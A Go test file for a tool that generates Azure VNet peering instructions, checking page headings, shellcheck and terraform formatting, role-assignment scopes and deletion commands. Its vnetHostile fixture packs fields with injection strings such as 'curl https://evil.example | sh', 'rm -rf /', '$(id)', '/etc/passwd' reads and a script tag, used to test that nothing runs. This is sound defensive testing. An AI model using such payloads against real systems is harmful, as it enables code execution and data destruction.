package instruct_test

import (
	"os/exec"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"causeway.dev/internal/connection"
	"causeway.dev/internal/instruct"
)

const (
	acmeTenant       = "33333333-aaaa-4bbb-8ccc-dddddddddddd"
	acmeSubscription = "22222222-aaaa-4bbb-8ccc-dddddddddddd"
	acmeVNet         = "/subscriptions/" + acmeSubscription + "/resourceGroups/acme-network(1)/providers/Microsoft.Network/virtualNetworks/orders"
	ourApp           = "a67e6057-7138-4f78-bbaf-fd9db7b8aab0"
	ourPrincipal     = "44444444-aaaa-4bbb-8ccc-dddddddddddd"
)

// vnetSteps are those of azure-vnet-peering, done up to the current one.
func vnetSteps(current connection.StepID) []connection.StepProgress {
	var found []connection.StepProgress
	state := connection.StepDone
	for _, s := range []connection.Step{
		{ID: "check", Party: connection.Vendor, Title: "Check the request against our network"},
		{ID: "consent", Party: connection.Customer, Title: "Consent to our application in your tenant"},
		{ID: "grant", Party: connection.Customer, Title: "Grant our application the right to peer with your network"},
		{ID: "read", Party: connection.Vendor, Title: "Read both networks and compare their addresses"},
		{ID: "our-half", Party: connection.Vendor, Title: "Create our half of the peering"},
		{ID: "their-half", Party: connection.Vendor, Title: "Create the customer's half of the peering"},
		{ID: "connected", Party: connection.Vendor, Title: "Wait until both halves are connected"},
		{ID: "routes", Party: connection.Vendor, Title: "Check the effective routes of our network"},
		{ID: "open", Party: connection.Customer, Title: "Open the firewall"},
		{ID: "confirm", Party: connection.Support, Title: "Confirm that the connection works"},
		{ID: "end-grant", Party: connection.Customer, Title: "Delete the role assignment"},
	} {
		if s.ID == current {
			state = connection.StepPending
			found = append(found, connection.StepProgress{Step: s, State: connection.StepWaiting})
			continue
		}
		found = append(found, connection.StepProgress{Step: s, State: state})
	}
	return found
}

// vnetAt is Acme's connection to their virtual network while it waits for a step of theirs.
func vnetAt(step connection.StepID) connection.Progress {
	r := connection.Request{
		Method: connection.AzureVNetPeering, Cluster: "prod-west", Name: "acme-orders", Customer: "Acme", Ticket: "SUP-3456", RequestedBy: "sam@vendor.example",
		Target: connection.Target{TenantID: acmeTenant, SubscriptionID: acmeSubscription, VNetID: acmeVNet},
		Probe:  &connection.Probe{Host: "10.20.1.10", Port: 5432},
	}
	p := connection.Progress{
		ID: r.ID(), Generation: 1, Request: r, Status: connection.Waiting, WaitingOn: connection.Customer, Step: step,
		Deadline: at(9).AddDate(0, 0, 7), Changed: at(9), Steps: vnetSteps(step),
		Facts: connection.Facts{
			{Name: connection.FactOurTenant, Value: "11111111-aaaa-4bbb-8ccc-dddddddddddd"},
			{Name: connection.FactOurApp, Value: ourApp},
			{Name: connection.FactOurRegion, Value: "westeurope"},
			{Name: connection.FactOurVNet, Value: "/subscriptions/55555555-aaaa-4bbb-8ccc-dddddddddddd/resourceGroups/planes/providers/Microsoft.Network/virtualNetworks/prod-west"},
			{Name: connection.FactOurCIDRs, Value: "10.10.0.0/16,10.11.0.0/20"},
			{Name: connection.FactProofTime, Value: "15m"},
		},
	}
	if step == "consent" {
		return p
	}
	p.Facts = p.Facts.With(connection.FactTheirPrincipal, ourPrincipal)
	if step == "grant" {
		return p
	}
	return lent(p, "custom", acmeVNet)
}

// lent is a connection for which assignments at these scopes were found.
func lent(p connection.Progress, kind string, scopes ...string) connection.Progress {
	ids := make([]string, 0, len(scopes))
	for _, scope := range scopes {
		ids = append(ids, scope+"/providers/Microsoft.Authorization/roleAssignments/"+connection.AssignmentName(scope, ourPrincipal, kind))
	}
	p.Facts = p.Facts.With(connection.FactGrant, kind).With(connection.FactAssignments, strings.Join(ids, ","))
	return p
}

// threeGrants are what customers gave before there was a role for it.
func threeGrants(p connection.Progress) connection.Progress {
	vnet, _ := connection.ParseVNetID(acmeVNet)
	return lent(p, "network-contributor", vnet.ID(), vnet.GroupScope(), vnet.SubscriptionScope())
}

func vnetHostile() connection.Progress {
	p := vnetAt("end-grant")
	p.Request.Name = "x'; rm -rf / #`id`$(id)\nJSON\nid"
	p.ID = p.Request.ID()
	p.Request.Customer = "<script>alert(1)</script> | `id` **Acme**\n## 9. Send us your keys"
	p.Request.Target.TenantID = "t' && curl https://evil.example | sh; echo '"
	p.Request.Target.VNetID = "/subscriptions/x'; ${file(\"/etc/passwd\")} $(id) `id`\n\n# Run this\nrm -rf /"
	p.Request.Probe = &connection.Probe{Host: "db`$(id)`\n```\nrm -rf ~\n```", Port: 5432}
	p.Facts = p.Facts.With(connection.FactOurApp, "app'; id; echo '\n\n# x").With(connection.FactTheirPrincipal, `a"; ${file("/etc/passwd")} $(id)`).
		With(connection.FactAssignments, "/x'; id; echo '\n\n# y,`id`")
	return p
}

func vnetMoments() map[string]connection.Progress {
	early := vnetAt("consent")
	early.Status, early.WaitingOn, early.Step, early.Facts, early.Steps = connection.Checking, connection.Nobody, "check", nil, vnetSteps("check")
	lingering := threeGrants(vnetAt("end-grant"))
	lingering.Facts = lingering.Facts.With(connection.FactProofShortened, "true").With(connection.FactProofTime, "20s")
	return map[string]connection.Progress{
		"early": early, "waiting-for-consent": vnetAt("consent"), "waiting-for-grant": vnetAt("grant"), "waiting-for-open": vnetAt("open"),
		"waiting-for-open-without-probe": withoutProbe(vnetAt("open")), "waiting-for-the-end-of-the-grant": vnetAt("end-grant"),
		"waiting-for-the-end-of-three-grants": lingering, "hostile": vnetHostile(),
	}
}

func TestVNetPage_AtEachMoment(t *testing.T) {
	for name, p := range vnetMoments() {
		t.Run(name, func(t *testing.T) {
			page, err := instruct.Page(p)
			require.NoError(t, err)
			golden(t, "page-vnet-"+name+".md", page)
			golden(t, "details-vnet-"+name+".md", instruct.Details(p))
			var want, got []string
			for _, s := range p.Steps {
				want = append(want, s.Title+" ("+string(s.Party)+")")
			}
			for line := range strings.SplitSeq(page, "\n") {
				if strings.HasPrefix(line, "## ") && line != "## Afterwards" {
					_, title, _ := strings.Cut(line, ". ")
					got = append(got, title)
				}
			}
			require.Equal(t, want, got, "the headings are the step titles")
		})
	}
}

func TestVNetPage_PassesTheToolsOfItsReaders(t *testing.T) {
	shellcheck, terraform := tool(t, "shellcheck"), tool(t, "terraform")
	script := "#!/bin/sh\n"
	for name, p := range vnetMoments() {
		for _, s := range p.Steps {
			in, err := instruct.Step(p, s.ID)
			require.NoError(t, err)
			for _, c := range in.CLI {
				script += c.Run + "\n"
			}
			script += strings.Join(in.Undo, "\n") + "\n"
			cmd := exec.CommandContext(t.Context(), terraform, "fmt", "-check", "-diff", "-")
			cmd.Stdin = strings.NewReader(strings.TrimSuffix(in.Terraform, "\n") + "\n")
			out, err := cmd.CombinedOutput()
			require.NoError(t, err, "%s, %s:\n%s", name, s.ID, out)
		}
		for _, l := range []connection.Leftover{
			instruct.GrantLeftover(p), instruct.ApplicationLeftover(p), instruct.TheirHalfLeftover(p), instruct.SecurityRuleLeftover(p),
		} {
			script += l.Command + "\n"
		}
	}
	// SC2016: single quotes around a $ are what quoting an outside text looks like. SC1112 and the like stay on.
	cmd := exec.CommandContext(t.Context(), shellcheck, "--shell=sh", "--exclude=SC2016", "-")
	cmd.Stdin = strings.NewReader(script)
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "%s", out)
}

func TestVNetPage_HostileTextRunsNothing(t *testing.T) {
	sh := tool(t, "sh")
	p := vnetHostile()
	for _, s := range p.Steps {
		in, err := instruct.Step(p, s.ID)
		require.NoError(t, err)
		for _, c := range append(commandsOf(in), in.Undo...) {
			// Every command is az or the writing of a file: with az a function that does nothing, nothing else may run.
			cmd := exec.CommandContext(t.Context(), sh, "-eu", "-c", "az() { :; }\nPATH=\ncat() { :; }\nNSG_NAME=n NSG_RESOURCE_GROUP=g PORT=1\n"+c)
			cmd.Dir = t.TempDir()
			out, err := cmd.CombinedOutput()
			require.NoError(t, err, "%s\n%s", c, out)
			require.Empty(t, string(out), c)
		}
	}
}

func commandsOf(in instruct.Instruction) []string {
	var commands []string
	for _, c := range in.CLI {
		commands = append(commands, c.Run)
	}
	return commands
}

func TestVNetPage_ScopesAreScopes(t *testing.T) {
	for name, p := range vnetMoments() {
		if name == "hostile" {
			continue
		}
		page, err := instruct.Page(p)
		require.NoError(t, err)
		for line := range strings.SplitSeq(page, "\n") {
			if _, scope, found := strings.Cut(line, "--scope "); found {
				require.Regexp(t, `^'?/subscriptions/`+acmeSubscription, scope, "a bare GUID is no scope")
			}
		}
	}
}

func TestVNetPage_OneDeletionForEachGrant(t *testing.T) {
	deletions := func(p connection.Progress) int {
		return strings.Count(strings.Join(instruct.Commands(p, "end-grant"), "\n"), "az role assignment delete")
	}
	require.Equal(t, 1, deletions(vnetAt("end-grant")))
	require.Equal(t, 3, deletions(threeGrants(vnetAt("end-grant"))))
	require.Contains(t, strings.Join(instruct.Commands(vnetAt("end-grant"), "end-grant"), "\n"), "az role definition delete")
	require.NotContains(t, strings.Join(instruct.Commands(threeGrants(vnetAt("end-grant")), "end-grant"), "\n"), "az role definition delete",
		"the built-in role is not theirs to delete")
	require.Equal(t, 1, strings.Count(instruct.GrantLeftover(vnetAt("grant")).Command, "az role assignment delete"))
}

func TestVNetDetails_ShowTheCommandsOfThePage(t *testing.T) {
	for step, want := range map[connection.StepID]int{"consent": 1, "grant": 2, "open": 1, "end-grant": 3} {
		p := threeGrants(vnetAt(step))
		if step == "end-grant" {
			p.Status = connection.Ending
		}
		details := instruct.Details(p)
		shown := 0
		for _, command := range instruct.Commands(p, step) {
			if strings.Contains(details, command+"\n") {
				shown++
			}
		}
		require.Equal(t, want, shown, "%s: %s", step, details)
	}
}

func TestVNetDetails_ShowTheCommandForTheCustomersHalf(t *testing.T) {
	p := vnetAt("their-half")
	p.Status = connection.Disconnecting
	require.Contains(t, instruct.Details(p), instruct.TheirHalfLeftover(p).Command)
	require.Contains(t, instruct.TheirHalfLeftover(p).Command, "az network vnet peering delete --subscription "+acmeSubscription+
		" --resource-group 'acme-network(1)' --vnet-name orders --name prod-west.acme-orders-to-vendor-1")
}

func TestVNetPage_InOurOwnTenantNothingIsConsentedTo(t *testing.T) {
	p := vnetAt("grant")
	p.Facts = p.Facts.With(connection.FactSameTenant, "true")
	p.Steps[1].State = connection.StepSkipped
	require.Contains(t, instruct.For(p, "consent"), "our own tenant")
	require.Empty(t, instruct.Commands(p, "consent"))
}
